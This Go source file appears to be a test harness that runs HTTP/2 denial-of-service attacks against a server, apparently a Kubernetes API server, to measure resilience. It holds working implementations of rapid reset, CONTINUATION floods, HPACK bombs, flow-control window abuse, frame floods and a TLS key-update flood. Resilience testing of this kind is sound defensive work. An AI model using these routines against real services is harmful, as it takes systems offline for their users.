package attacks

import (
	"context"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// noAttack is the line that shows the honest client without an attack.
const noAttack = "none"

// attackKind is an attack without its parameters.
type attackKind struct {
	name string
	// requests says that the attack consists of requests, which have credentials or none.
	// With other attacks, a client with credentials also follows a watch on the
	// connection. bare attacks come before HTTP, so they never have credentials.
	requests, bare bool
	// path and token are those of the attack's requests if it has some of its own.
	path, token string
	// run opens a connection and attacks until the connection or the context ends.
	run func(context.Context, *slot) error
}

// http2Attack makes an attack of rounds on a connection: rate rounds a second over all
// connections. begin is called first; it may be nil.
func http2Attack(rate int, m connOptions, begin, round func(*peer) error) func(context.Context, *slot) error {
	return func(ctx context.Context, s *slot) error {
		p, err := s.dial(ctx, m)
		if err != nil {
			return err
		}
		defer p.close()
		if begin != nil {
			if err := begin(p); err != nil {
				return err
			}
			if err := p.flush(); err != nil {
				return err
			}
		}
		for s.pace(ctx, rate) {
			if err := round(p); err != nil {
				return err
			}
			if err := p.flush(); err != nil {
				return err
			}
		}
		return nil
	}
}

// frames returns a round that writes the same frames n times.
func frames(n int, write func(*peer)) func(*peer) error {
	return func(p *peer) error {
		for range n {
			write(p)
		}
		return nil
	}
}

func attacks() []attackKind {
	all := []attackKind{{name: noAttack, bare: true}}
	all = append(all, requestAttacks()...)
	all = append(all, windowAttacks()...)
	all = append(all, frameAttacks()...)
	return append(all, connectionAttacks()...)
}

func findAttack(name string) attackKind {
	for _, a := range slices.Concat(attacks(), replicaAttacks()) {
		if a.name == name {
			return a
		}
	}
	panic("no such attack: " + name)
}

// tableRows are the selected attacks with and without credentials, and with each number of
// connections.
func tableRows(t *testing.T, kinds []attackKind, connections ...int) (all []*attack) {
	t.Helper()
	only, err := regexp.Compile(os.Getenv(onlyVariable))
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range kinds {
		for _, credentials := range []bool{false, true} {
			if k.bare && credentials || k.path != "" && credentials != (k.token != "") {
				continue
			}
			for i, conns := range connections {
				if k.name == noAttack && i > 0 {
					continue
				}
				a := &attack{k.name, conns, credentials}
				if k.name == noAttack || only.MatchString(a.title()) {
					all = append(all, a)
				}
			}
		}
	}
	return all
}

// requestAttacks cost the server work for requests.
func requestAttacks() []attackKind {
	return []attackKind{
		// CVE-2023-44487
		{name: "rapid reset", requests: true, run: http2Attack(100, connOptions{}, nil, frames(20, func(p *peer) { p.reset(p.get("")) }))},
		// CVE-2025-8671: the server is made to reset, by an increment of nothing.
		{name: "reset by the server", requests: true, run: http2Attack(100, connOptions{}, nil, frames(20, func(p *peer) { p.window(p.get(""), 0) }))},
		// CVE-2024-27316 and others
		{name: "CONTINUATION without end", requests: true, run: http2Attack(100, connOptions{}, beginHeaders, func(p *peer) error {
			p.block.Reset()
			_ = p.hpack.WriteField(hpack.HeaderField{Name: "x-field", Value: strings.Repeat("v", 1000), Sensitive: true}) // to a buffer
			return frames(20, func(p *peer) { p.raw(http2.FrameContinuation, 0, p.id, p.block.Bytes()) })(p)
		})},
		{name: "empty CONTINUATION", requests: true, run: http2Attack(100, connOptions{}, beginHeaders, frames(100, func(p *peer) {
			p.raw(http2.FrameContinuation, 0, p.id, nil)
		}))},
		{name: "HPACK bomb", requests: true, run: http2Attack(50, connOptions{}, nil, hpackBomb(16000))},
		{name: "HPACK bomb within the limit", requests: true, run: http2Attack(50, connOptions{}, nil, hpackBomb(330))},
		{name: "ranges", requests: true, run: http2Attack(20, connOptions{}, nil, func(p *peer) error {
			p.get("", "range", "bytes="+byteRanges())
			return nil
		})},
	}
}

// beginHeaders begins a header block without ending it.
func beginHeaders(p *peer) error {
	p.raw(http2.FrameHeaders, http2.FlagHeadersEndStream, p.id, p.fields("GET", p.Path))
	return nil
}

// hpackBomb puts a large field into the HPACK table, then refers to it many times.
func hpackBomb(times int) func(*peer) error {
	value := strings.Repeat("v", 3000)
	return func(p *peer) error {
		if p.id < 5 {
			p.reset(p.headers(p.fields("GET", p.Path, "x-bomb", value), http2.FlagHeadersEndStream))
			return nil
		}
		block := append(p.fields("GET", p.Path), strings.Repeat("\xbe", times)...) // the newest field
		p.reset(p.headers(block, http2.FlagHeadersEndStream))
		return nil
	}
}

// byteRanges are thousands of ranges of one byte each.
func byteRanges() string {
	var b strings.Builder
	for i := range 7000 {
		fmt.Fprintf(&b, "%d-%d,", 2*i, 2*i)
	}
	return strings.TrimSuffix(b.String(), ",")
}

const (
	// maxWindow is the largest window that HTTP/2 allows.
	maxWindow = 1<<31 - 1
	// listPath is the request with the largest answer.
	listPath = "/api/v1/namespaces/" + namespace + "/configmaps"
)

// window is the setting for initial windows of n bytes.
func window(n uint32) []http2.Setting {
	return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: n}}
}

// windowAttacks make the server keep bytes that it may not send.
func windowAttacks() []attackKind {
	ask := func(p *peer) error { return frames(100, func(p *peer) { p.get("") })(p) }
	return []attackKind{
		{name: "answers reset, connection's window closed", requests: true, run: http2Attack(100, connOptions{settings: window(maxWindow)}, closeWindow, func(p *peer) error {
			return answersReset(p, 50)
		})},
		{name: "answers reset, nothing read", requests: true, run: http2Attack(50, connOptions{settings: window(maxWindow), unread: true},
			func(p *peer) error { p.window(0, maxWindow-65535); return nil }, func(p *peer) error {
				for range 20 {
					if id := p.get(""); id > 40 {
						p.reset(id - 40)
					}
				}
				return nil
			})},
		{name: "windows of nothing", requests: true, run: http2Attack(1, connOptions{settings: window(0)}, ask, frames(1, ping))},
		{name: "windows that grow by a byte", requests: true, run: http2Attack(100, connOptions{settings: window(1)}, ask, func(p *peer) error {
			for id := uint32(1); id < p.id; id += 2 {
				p.window(id, 1)
			}
			return nil
		})},
		{name: "windows that open and shut", requests: true, run: http2Attack(100, connOptions{settings: window(0)}, ask, func(p *peer) error {
			for i := range 20 {
				_ = p.framer.WriteSettings(window(uint32(i % 2))...)
			}
			return nil
		})},
		{name: "windows that overflow", requests: true, run: http2Attack(50, connOptions{}, nil, frames(2, func(p *peer) { p.window(0, maxWindow) }))},
		{name: "slow reader", requests: true, run: http2Attack(2, connOptions{settings: window(maxWindow), slow: true},
			func(p *peer) error {
				p.window(0, maxWindow-65535)
				if p.Token == "" {
					return ask(p)
				}
				return frames(10, func(p *peer) { p.get(listPath) })(p)
			}, frames(1, ping))},
	}
}

// closeWindow uses up the connection's window.
func closeWindow(p *peer) error {
	for sent := 0; sent < 65535; sent += 8 << 10 {
		p.get("")
	}
	if err := p.flush(); err != nil {
		return err
	}
	return p.await(1<<30, 65535)
}

// answersReset sends n requests, waits for the heads of their answers, and resets the
// streams.
func answersReset(p *peer, n int) error {
	before := p.answered()
	first := p.id
	for range n {
		p.get("")
	}
	if err := p.flush(); err != nil {
		return err
	}
	if err := p.await(before+n, 1<<30); err != nil {
		return err
	}
	for id := first; id < p.id; id += 2 {
		p.reset(id)
	}
	return nil
}

func ping(p *peer) { _ = p.framer.WritePing(false, [8]byte{}) }

// frameAttacks are floods of frames that cost little to send.
func frameAttacks() []attackKind {
	return []attackKind{
		{name: "PING flood", run: http2Attack(100, connOptions{}, nil, frames(100, ping))},
		{name: "PING flood, nothing read", run: http2Attack(100, connOptions{unread: true}, nil, frames(100, ping))},
		{name: "SETTINGS flood", run: http2Attack(100, connOptions{}, nil, frames(100, func(p *peer) {
			_ = p.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
		}))},
		{name: "SETTINGS flood, nothing read", run: http2Attack(100, connOptions{unread: true}, nil, frames(100, func(p *peer) {
			_ = p.framer.WriteSettings()
		}))},
		{name: "PRIORITY flood", run: http2Attack(100, connOptions{}, nil, frames(100, func(p *peer) {
			_ = p.framer.WritePriority(p.id, http2.PriorityParam{StreamDep: p.id + 2, Weight: 7})
			p.id += 2
		}))},
		{name: "empty DATA", run: http2Attack(100, connOptions{}, func(p *peer) error {
			p.headers(p.fields("POST", p.Path), 0)
			return nil
		}, frames(100, func(p *peer) { p.raw(http2.FrameData, 0, p.id-2, nil) }))},
		{name: "empty HEADERS", run: http2Attack(100, connOptions{}, nil, frames(50, func(p *peer) { p.headers(nil, http2.FlagHeadersEndStream) }))},
		{name: "new keys", run: http2Attack(50, connOptions{keys: true}, nil, keyUpdates)},
		// The answer to a LIST fills the socket, so that answers to key updates soon block in
		// the goroutine that reads. Events of the watch then come behind these answers.
		{name: "new keys, nothing read", run: http2Attack(200, connOptions{settings: window(maxWindow), keys: true, unread: true}, func(p *peer) error {
			if p.window(0, 1<<24); p.Token != "" {
				p.get(listPath)
			}
			return nil
		}, keyUpdates)},
	}
}

// keyUpdates asks for new TLS keys as often as TLS allows in a row. Frames of an unknown
// type stand between.
func keyUpdates(p *peer) error {
	var records []byte
	var err error
	for range 40 {
		for range 15 {
			if records, err = p.keys.writer.AppendKeyUpdate(records); err != nil {
				return err
			}
		}
		records = p.keys.writer.AppendData(records, []byte("\x00\x00\x00\xfa\x00\x00\x00\x00\x00"))
	}
	n, err := p.keys.conn.Write(records)
	p.stats.Bytes.Add(int64(n))
	return err
}
